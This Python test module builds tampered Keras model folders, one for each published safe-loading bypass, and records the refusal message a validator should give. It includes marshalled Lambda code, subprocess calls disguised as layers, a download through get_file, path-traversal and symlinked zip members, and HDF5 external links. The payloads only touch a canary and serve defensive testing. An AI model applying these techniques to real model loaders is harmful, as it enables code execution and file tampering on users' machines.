"""The published ways around Keras's safe loading, each as an attack on a model's folder.

The attacker may write to the store, so the manifest states the right digest and size of the changed file. The
advisory with the number of a CVE describes its attack; the payloads here only touch the canary.

A CVE with several variants has one attack for each. The pattern next to an attack is the reason of its
refusal, which shows that the attack itself is refused: apart from it, the model is valid, as far as possible.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from tests.artefact_edits import rewrite_config, rewrite_members, rewrite_weights, state_digest
from tests.hostile.starting import Canary

Attack = Callable[[Path, Canary], None]
Layer = dict[str, Any]
# A table of the attacked model.
TABLE = "layers/qr_embedding/quotient/vars/0"


def code_layer(canary: Canary) -> Layer:
    """A Lambda layer of compiled code, as Keras itself writes one."""
    source = f"lambda x: [open({str(canary.file)!r}, 'w').close(), x][1]"
    compiled = compile(source, "payload", "eval").co_consts[0]
    code = base64.b64encode(marshal.dumps(compiled)).decode()
    function = {
        "class_name": "__lambda__",
        "config": {"code": code + "\n", "defaults": None, "closure": None},
    }
    return lambda_layer(function)


def lambda_layer(function: Layer, **arguments: Any) -> Layer:
    config = {"name": "attack", "trainable": True, "dtype": "float32", "function": function}
    return layer("keras.layers", "Lambda", {**config, "arguments": arguments})


def layer(module: str, class_name: str, config: Any, registered: str | None = None) -> Layer:
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def function(module: str, name: str) -> Layer:
    return layer(module, "function", name, "function")


def add_layers(folder: Path, *layers: Layer, called_with: Any = None) -> None:
    """Put layers behind the model's last tensor; with `called_with`, they are called with that instead."""

    def change(config: dict[str, Any]) -> None:
        ratings = config["config"]["layers"]
        tensor = ratings[-1]["inbound_nodes"][0]["args"][0]
        node = (
            {"args": [tensor], "kwargs": {}} if called_with is None else {"args": [], "kwargs": called_with}
        )
        for place, one in enumerate(layers):
            ratings.append({**one, "name": f"attack{place}", "inbound_nodes": [node]})

    rewrite_config(folder, change)


def lambda_with_code(folder: Path, canary: Canary) -> None:
    add_layers(folder, code_layer(canary))


def function_of_the_standard_library(folder: Path, canary: Canary) -> None:
    called_with = {"args": ["touch", str(canary.file)]}
    add_layers(folder, layer("subprocess", "run", {"name": "attack"}), called_with=called_with)


def function_of_any_module(folder: Path, canary: Canary) -> None:
    called_with = {"args": [str(canary.file)]}
    add_layers(folder, layer("canary_module", "touch", {"name": "attack"}), called_with=called_with)


def own_function_that_downloads(folder: Path, canary: Canary) -> None:
    arguments = {"fname": str(canary.file), "origin": canary.url, "cache_dir": str(canary.folder)}
    add_layers(folder, lambda_layer(function("keras.utils", "get_file"), **arguments))


def legacy_file_by_the_new_name(folder: Path, canary: Canary) -> None:
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        model = {"class_name": "Sequential", "config": {"layers": [code_layer(canary)]}}
        file.attrs["model_config"] = json.dumps(model)
        file.attrs["keras_version"] = "2.15.0"
        file.create_group("model_weights")
    (folder / "model.keras").write_bytes(buffer.getvalue())
    state_digest(folder)


def safe_mode_switched_off(folder: Path, canary: Canary) -> None:
    off = lambda_layer(function("keras.config", "enable_unsafe_deserialization"))
    add_layers(folder, off, code_layer(canary))


def vocabulary_by_path(folder: Path, canary: Canary) -> None:
    add_layers(folder, string_lookup(str(canary.pipe)))


def vocabulary_by_address(folder: Path, canary: Canary) -> None:
    add_layers(folder, string_lookup(canary.url))


def string_lookup(vocabulary: str) -> Layer:
    config = {"name": "attack", "max_tokens": None, "num_oov_indices": 1, "oov_token": "[UNK]"}
    return layer("keras.layers", "StringLookup", {**config, "vocabulary": vocabulary})


def vocabulary_by_path_in_our_lookup(folder: Path, canary: Canary) -> None:
    def change(config: dict[str, Any]) -> None:
        for one in config["config"]["layers"]:
            if one["class_name"] == "IdLookup":
                one["config"]["vocabulary"] = str(canary.pipe)

    rewrite_config(folder, change)


def member_behind_a_link(folder: Path, canary: Canary) -> None:
    with zipfile.ZipFile(folder / "model.keras", "a") as archive:
        link = zipfile.ZipInfo("assets")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(canary.folder))
        archive.writestr("assets/touched", "x")
    state_digest(folder)


def absolute_member(folder: Path, canary: Canary) -> None:
    rewrite_members(folder, lambda members: members.update({str(canary.file): b"x"}))


def member_above_the_folder(folder: Path, canary: Canary) -> None:
    name = f"{'../' * 20}{str(canary.file)[1:]}"
    rewrite_members(folder, lambda members: members.update({name: b"x"}))


def gigantic_shape(folder: Path, canary: Canary) -> None:
    def change(file: h5py.File) -> None:
        del file[TABLE]
        file.create_dataset(TABLE, shape=(10**6, 10**6, 10**6), dtype="f4", chunks=(1, 1, 10**3))

    rewrite_weights(folder, change)


def gigantic_table_in_the_configuration(folder: Path, canary: Canary) -> None:
    def change(config: dict[str, Any]) -> None:
        for one in config["config"]["layers"]:
            sizes = one["config"]
            if one["class_name"] == "QREmbedding":
                sizes["quotient_rows"] = 10**10
            elif one["class_name"] == "MDEmbedding":
                sizes["block_sizes"][0] = 10**10

    rewrite_config(folder, change)


def foreign_graph(folder: Path, canary: Canary) -> None:
    config = {"name": "attack", "filepath": str(canary.folder), "call_endpoint": "serve"}
    add_layers(folder, layer("keras.layers", "TFSMLayer", config))


def weights_in_another_file(folder: Path, canary: Canary) -> None:
    def change(file: h5py.File) -> None:
        table = taken_out(file)
        (canary.folder / "other").write_bytes(table.tobytes())
        external = [(str(canary.folder / "other"), 0, table.nbytes)]
        file.create_dataset(TABLE, shape=table.shape, dtype=table.dtype, external=external)

    rewrite_weights(folder, change)


def weights_behind_a_link(folder: Path, canary: Canary) -> None:
    def change(file: h5py.File) -> None:
        other = in_another_file(taken_out(file), canary)
        file[TABLE] = h5py.ExternalLink(other, "/table")

    rewrite_weights(folder, change)


def weights_of_a_virtual_dataset(folder: Path, canary: Canary) -> None:
    def change(file: h5py.File) -> None:
        table = taken_out(file)
        layout = h5py.VirtualLayout(shape=table.shape, dtype=table.dtype)
        layout[:] = h5py.VirtualSource(in_another_file(table, canary), "table", shape=table.shape)
        file.create_virtual_dataset(TABLE, layout)

    rewrite_weights(folder, change)


def taken_out(file: h5py.File) -> np.ndarray[Any, Any]:
    table: np.ndarray[Any, Any] = file[TABLE][()]
    del file[TABLE]
    return table


def in_another_file(table: np.ndarray[Any, Any], canary: Canary) -> str:
    with h5py.File(canary.folder / "other.h5", "w") as other:
        other["table"] = table
    return str(canary.folder / "other.h5")


def own_prefix_on_keras_lambda(folder: Path, canary: Canary) -> None:
    """No advisory: a class with our prefix, which Keras would import from the stated module."""
    add_layers(folder, {**code_layer(canary), "registered_name": "stars>Lambda"})


def own_prefix_on_any_module(folder: Path, canary: Canary) -> None:
    attack = {**code_layer(canary), "module": "canary_module", "class_name": "touch"}
    add_layers(folder, {**attack, "registered_name": "stars>touch"})


def lambda_registered_behind_a_known_class(folder: Path, canary: Canary) -> None:
    add_layers(folder, {**code_layer(canary), "class_name": "Embedding", "registered_name": "keras>Lambda"})


def lambda_registered_behind_our_module(folder: Path, canary: Canary) -> None:
    ours = {"module": "training.layers.id_lookup", "class_name": "IdLookup"}
    add_layers(folder, {**code_layer(canary), **ours, "registered_name": "keras>Lambda"})


def training_configuration(folder: Path, canary: Canary) -> None:
    """No advisory: Keras also deserialises the compile configuration of a model."""
    loss = {"loss": function("canary_module", "touch"), "optimizer": "adam"}
    rewrite_config(folder, lambda config: config.update(compile_config=loss))


def swap_members(members: dict[str, bytes]) -> None:
    members["config.json"], members["metadata.json"] = members["metadata.json"], members["config.json"]


def swapped_members(folder: Path, canary: Canary) -> None:
    rewrite_members(folder, swap_members)


def foreign(class_name: str) -> str:
    return f"has the class '{class_name}', which the trainer never writes"


MEMBERS = "must hold exactly config.json, metadata.json, model.weights.h5"
NO_PLAIN_ARRAY = "holds an array that is not plain numbers within the file"

BYPASSES: dict[str, dict[Attack, str]] = {
    "CVE-2024-3660": {lambda_with_code: foreign("Lambda")},
    "CVE-2025-1550": {
        function_of_the_standard_library: foreign("run"),
        function_of_any_module: foreign("touch"),
    },
    "CVE-2025-8747": {own_function_that_downloads: foreign("Lambda")},
    "CVE-2025-9905": {legacy_file_by_the_new_name: "does not end like one"},
    "CVE-2025-9906": {safe_mode_switched_off: foreign("Lambda")},
    "CVE-2025-12058": {
        vocabulary_by_path: foreign("StringLookup"),
        vocabulary_by_address: foreign("StringLookup"),
        vocabulary_by_path_in_our_lookup: "names a vocabulary",
    },
    "CVE-2025-12060": {
        member_behind_a_link: MEMBERS,
        absolute_member: MEMBERS,
        member_above_the_folder: MEMBERS,
    },
    "CVE-2026-0897": {
        gigantic_shape: NO_PLAIN_ARRAY,
        gigantic_table_in_the_configuration: "other (?:shapes|tables)",
    },
    "CVE-2026-1462": {foreign_graph: foreign("TFSMLayer")},
    "CVE-2026-1669": {
        weights_in_another_file: NO_PLAIN_ARRAY,
        weights_behind_a_link: "holds a link",
        weights_of_a_virtual_dataset: NO_PLAIN_ARRAY,
    },
    "no number": {
        own_prefix_on_keras_lambda: foreign("Lambda"),
        own_prefix_on_any_module: foreign("touch"),
        lambda_registered_behind_a_known_class: foreign("Embedding"),
        lambda_registered_behind_our_module: foreign("IdLookup"),
        training_configuration: "has a compile_config",
        swapped_members: "states no keras_version",
    },
}
